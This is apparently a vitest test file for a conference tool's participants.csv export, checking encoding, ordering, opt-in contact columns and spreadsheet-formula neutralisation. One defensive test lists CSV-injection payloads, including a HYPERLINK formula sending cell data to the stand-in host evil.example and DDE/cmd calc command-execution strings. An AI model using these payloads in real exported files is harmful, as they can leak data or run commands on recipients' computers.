/**
 * participants.csv: what a mail merge or a label printer reads. Read back with csv-parse (a
 * parser coop did not write for this) and with coop's own attendee reader (round trip).
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { readAttendeesCsv } from '../src/attendees/csv.js';
import { csvCell, isFormulaLike } from '../src/export/participants-csv.js';
import { run } from './helpers.js';

const repo = path.join(import.meta.dirname, '..');
const tmp = () => mkdtempSync(path.join(tmpdir(), 'coop-pcsv-'));
const cells = (bytes: Buffer) => parse(bytes, { bom: true, delimiter: ';', record_delimiter: '\r\n', relax_column_count: false }) as string[][];

describe('participants.csv', () => {
  it('is UTF-8 with BOM, ";" separated, CRLF, civility first, the printed order, no contact by default', async () => {
    const out = tmp();
    const r = await run(['build', 'examples/universites-automne/event.yaml', '-o', out, '--only', 'participants.csv,participants.html'], repo);
    expect(r.code).toBe(0);
    const bytes = readFileSync(path.join(out, 'participants.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const rows = cells(bytes);
    expect(rows[0]).toEqual(['Civilité', 'NOM', 'Prénom', 'Fonction', 'Organisme']);
    expect(rows).toContainEqual(['M.', 'DUPONT', 'Jean', 'Élu délégué à la coopération', "Métropole de Lyon; Direction de l'international"]);
    expect(rows).toContainEqual(['Mme', 'de SAINT-EXUPÉRY', 'Anne', 'Chargée de mission Afrique', 'Région Bretagne']);
    expect(text).not.toContain('@');
    // Same order as the printed list.
    const html = readFileSync(path.join(out, 'participants.html'), 'utf8');
    const families = rows.slice(1).map((r) => r[1]);
    const positions = families.map((f) => html.indexOf(`>${f}<`));
    expect(positions.every((p) => p > 0)).toBe(true);
    expect(positions).toEqual([...positions].sort((a, b) => a - b));
  });

  it('adds e-mail and phone only with --with-contacts, and reads back as the same attendees', async () => {
    const out = tmp();
    const r = await run(['build', 'examples/universites-automne/event.yaml', '-o', out, '--only', 'participants.csv', '--with-contacts'], repo);
    expect(r.code).toBe(0);
    const bytes = readFileSync(path.join(out, 'participants.csv'));
    const rows = cells(bytes);
    expect(rows[0]).toEqual(['Civilité', 'NOM', 'Prénom', 'Fonction', 'Organisme', 'Courriel', 'Téléphone']);
    expect(rows.flat()).toContain('a.saint-exupery@example.org');
    const back = readAttendeesCsv(bytes, 'participants.csv', 'participants.csv');
    expect(back.problems).toEqual([]);
    const model = JSON.parse((await run(['model', 'examples/universites-automne/event.yaml'], repo)).stdout) as { attendees: Array<{ name: string }> };
    expect(back.people.map((p) => p.name).sort()).toEqual(model.attendees.map((a) => a.name).sort());
  });

  it('makes inert every cell a spreadsheet would run as a formula', async () => {
    const dir = tmp();
    const evil = [
      '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
      '+33 1 42 34 20 00',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      "\r=cmd|' /C calc'!A0",
      '  =1+1',
      '＝1+1',
      '=DDE("cmd";"/C calc";"x")',
    ];
    const csv = [
      'Nom;Fonction;Organisme;Téléphone',
      ...evil.map((e, i) => `"Personne ${i} ${'ABCDEFGHIJ'[i]}";"${e.replace(/"/g, '""')}";"${e.replace(/"/g, '""')}";"${e.replace(/"/g, '""')}"`),
    ].join('\n');
    writeFileSync(path.join(dir, 'inscrits.csv'), csv);
    writeFileSync(
      path.join(dir, 'event.yaml'),
      `event: { title: Réunion }\nattendees:\n  - { name: "@Jean DUPONT", role: "=1+2", org: "-Ville" }\n  - file: inscrits.csv\ndays:\n  - date: 2016-05-19\n    sessions:\n      - { title: Atelier, start: "14h", end: "17h" }\n`,
    );
    const out = path.join(dir, 'out');
    const r = await run(['build', 'event.yaml', '-o', out, '--only', 'participants.csv', '--with-contacts'], dir);
    expect(r.stderr).toBe('');
    const rows = cells(readFileSync(path.join(out, 'participants.csv')));
    expect(rows).toHaveLength(evil.length + 2);
    for (const row of rows) for (const c of row) expect(isFormulaLike(c.trimStart()), JSON.stringify(c)).toBe(false);
    // Inert, and still readable: the apostrophe, then the text as written.
    expect(rows.flat()).toContain("'+33 1 42 34 20 00");
    expect(rows.flat()).toContain('\'=HYPERLINK("http://evil.example/?"&A1;"Cliquez")');
    expect(rows.find((r) => r[1] === 'DUPONT')).toEqual(['', 'DUPONT', "'@Jean", "'=1+2", "'-Ville", '', '']);
  });

  it('quotes a cell with the separator, a quote or edge spaces, and keeps one line per person', () => {
    expect(csvCell('Grand Lyon; la Métropole')).toBe('"Grand Lyon; la Métropole"');
    expect(csvCell('Région "AURA"')).toBe('"Région ""AURA"""');
    expect(csvCell('Maire\nadjoint')).toBe('Maire adjoint');
    expect(csvCell('\t=1+1')).toBe("' =1+1");
    expect(csvCell('Jean\u001b[2J')).toBe('Jean[2J');
    expect(csvCell('CUF')).toBe('CUF');
  });
});
